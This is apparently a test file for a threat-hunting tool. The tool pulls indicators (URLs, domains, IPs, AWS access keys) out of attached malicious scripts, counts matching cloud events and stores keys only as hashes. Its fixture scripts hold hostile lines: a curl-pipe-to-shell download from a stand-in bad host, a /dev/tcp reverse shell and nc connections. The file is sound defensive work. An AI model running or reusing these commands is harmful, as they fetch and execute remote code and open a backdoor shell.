import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Context } from '@/lib/context';
import { insertEvents, makeEvent } from '@/lib/store/ingest/event-rows.test-support';
import { insertAlert, insertPerson } from '@/scripts/test-alerts';
import { openTestDatabase, type TestDatabase } from '@/scripts/test-database-client';
import { attachPayload } from './attach-payload';
import { listPayloads, readTermParam } from './list-payloads';
import { listTerms } from './list-terms';
import { rereadTerms } from './reread-terms';
import { searchEvents } from '@/lib/usecase/event/search-events';
import { searchTerms } from './search-terms';

const KEY = 'AKIAXYZ0123456789ABC';
const SCRIPT = `#!/bin/bash
curl http://files.badhost.net/a.sh | sh
bash -i >& /dev/tcp/192.0.2.9/443 0>&1
export AWS_ACCESS_KEY_ID=${KEY}
`;
const OTHER = '#!/bin/bash\ncurl -O http://files.badhost.net/b.sh\n';
const BELOW =
  '#!/bin/bash\nnc a.files.badhost.net 443; nc b.files.badhost.net 443; nc notfiles.badhost.net 443\n';
const BESIDE = '#!/bin/bash\nnc notfiles.badhost.net 443\n';

let test: TestDatabase;
let ana: Context;
let sha256: string;
let other: string;
let below: string;
let count = 0;

const event = (given: Partial<Parameters<typeof makeEvent>[0]>) => {
  count += 1;
  return makeEvent({ eventId: `e-${count}`, eventTime: new Date(Date.UTC(2024, 7, 1, 12, count)), ...given });
};

beforeAll(async () => {
  test = await openTestDatabase();
  ana = await insertPerson(test.ctx, 'Ana');
  await insertAlert(test.db, 'one');
  const attach = (text: string) =>
    attachPayload(ana, { alertId: 'one', bytes: new TextEncoder().encode(text), how: 'paste' });
  ({ sha256 } = await attach(SCRIPT));
  ({ sha256: other } = await attach(OTHER));
  ({ sha256: below } = await attach(BELOW));
  await attach(BESIDE);
  await insertEvents(test.db, [
    event({}),
    event({ sourceAddress: '192.0.2.9', sourceIp: '192.0.2.9' }),
    event({ sourceAddress: '192.0.2.90', sourceIp: '192.0.2.90' }),
    event({
      requestText: '{groupId=sg-1, ipPermissions={items=[{ipRanges={items=[{cidrIp=192.0.2.9/32}]}}]}}',
    }),
    event({ requestText: '{policyDocument={"Condition":{"IpAddress":{"aws:SourceIp":["192.0.2.9/32"]}}}}' }),
    event({ requestText: '{cidrIp=192.0.2.90/32, address=1192.0.2.9, range=192.0.2.9.1}' }),
    event({ errorMessage: 'No route to 192.0.2.9.' }),
    event({ requestText: '{location=http://files.badhost.net/a.sh}' }),
    event({ errorMessage: 'Could not reach files.badhost.net' }),
    event({ requestText: '{endpoint=A.Files.badhost.net, port=443}' }),
    event({
      userAgent: 'notfiles.badhost.net',
      errorMessage: 'files.badhost.network and files.badhost.net.example',
    }),
    event({ requestText: '{location=http://files.badhost.net/a.sh.sig}' }),
    event({ accessKeyId: KEY }),
    event({ eventName: 'CreateAccessKey', response: { accessKey: { accessKeyId: KEY } } }),
    event({ eventName: 'DeleteAccessKey', requestText: `{userName=x, accessKeyId=${KEY}}` }),
    event({ accessKeyId: 'AKIAXYZ0123456789ABD' }),
  ]);
});
afterAll(() => test.close());

it('counts the events that hold each term, and the link shows exactly those', async () => {
  const list = await listTerms(ana, { sha256 });
  expect(list.terms.map(({ kind, shown }) => `${kind} ${shown}`)).toEqual([
    'url hxxp://files[.]badhost[.]net/a.sh',
    'domain files[.]badhost[.]net',
    'address 192[.]0[.]2[.]9',
    expect.stringMatching(/^access-key AKIA…9ABC·/),
  ]);
  const found = await searchTerms(ana, list);
  expect(found.map(({ events }) => events)).toEqual([{ count: 1 }, { count: 4 }, { count: 4 }, { count: 3 }]);
  for (const [index, { kql }] of list.terms.entries()) {
    const { total } = await searchEvents(ana, { kql, ...(list.span ?? {}) });
    expect({ count: total }).toEqual(found[index]?.events);
  }
});

it('tells which other payloads name it, and not this one', async () => {
  const found = await searchTerms(ana, await listTerms(ana, { sha256 }));
  expect(found.map(({ payloads, others }) => [payloads, others])).toEqual([
    [{ count: 0 }, []],
    [{ count: 2 }, [other, below].sort()],
    [{ count: 0 }, []],
    [{ count: 0 }, []],
  ]);
});

it('leads to the payloads that it counted, and to this one', async () => {
  const list = await listTerms(ana, { sha256 });
  const found = await searchTerms(ana, list);
  for (const [index, { kind, stored }] of list.terms.entries()) {
    const filter = { search: '', holder: '', hows: [], term: readTermParam(`${kind}:${stored}`) };
    const { items } = await listPayloads(ana, {
      filter,
      sort: { key: 'lastSeenAt', descending: true },
      page: 1,
    });
    expect(items.map((item) => item.sha256).sort()).toEqual([sha256, ...(found[index]?.others ?? [])].sort());
  }
});

it('says that it did not count rather than 0 where time runs out', async () => {
  const list = await listTerms(ana, { sha256 });
  const found = await searchTerms(ana, list, { allMs: 0 });
  expect(found.map(({ events }) => events)).toEqual(list.terms.map(() => ({ failed: 'it took too long' })));
  expect(found[1]?.payloads).toEqual({ count: 2 });
});

it('ends a statement that takes too long and counts the others', async () => {
  const list = await listTerms(ana, { sha256 });
  const [first] = list.terms;
  if (first === undefined) throw new Error('no terms');
  // The lock keeps the statement waiting until its limit.
  const client = await test.db.pool.connect();
  try {
    await client.query('begin');
    await client.query('lock table event in access exclusive mode');
    const found = await searchTerms(ana, { ...list, terms: [first] }, { termMs: 200 });
    expect(found[0]?.events).toEqual({ failed: 'it took too long' });
  } finally {
    await client.query('rollback');
    client.release();
  }
});

it('keeps credentials as hashes only', async () => {
  const rows = await test.db.prisma.payloadTerm.findMany({ where: { sha256 } });
  expect(JSON.stringify(rows)).not.toContain(KEY);
  expect(rows.filter(({ kind }) => kind === 'access-key')).toMatchObject([
    { value: expect.stringMatching(/^[\da-f]{64}$/) as string },
  ]);
});

it('reads the terms of payloads again that an older version read', async () => {
  await test.db.pool.query('delete from payload_term');
  await test.db.pool.query('update payload set terms_version = 1');
  expect(await rereadTerms(test.ctx)).toEqual({ payloads: 4 });
  expect(await rereadTerms(test.ctx)).toEqual({ payloads: 0 });
  expect(await test.db.prisma.payloadTerm.count({ where: { sha256, kind: 'domain' } })).toBe(1);
});
